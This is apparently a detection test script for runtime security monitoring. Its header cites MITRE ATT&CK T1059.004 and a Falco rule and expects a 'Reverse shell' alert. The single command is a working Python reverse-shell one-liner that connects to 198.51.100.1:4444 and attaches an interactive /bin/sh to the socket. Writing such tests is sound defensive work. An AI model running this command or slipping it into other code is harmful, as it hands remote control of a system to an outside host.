#!/bin/sh
# title: Reverse shell (python one-liner: socket on the shell's stdio)
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell
# source: https://attack.mitre.org/techniques/T1059/004/ ; Falco "Redirect STDOUT/STDIN to Network Connection in Container"
# expect: Reverse shell
# needs: python
# peer: 198.51.100.1:4444
# nonroot: yes
python3 -c "import os, socket; s = socket.create_connection(('198.51.100.1', 4444)); [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]; os.execv('/bin/sh', ['sh', '-i'])"
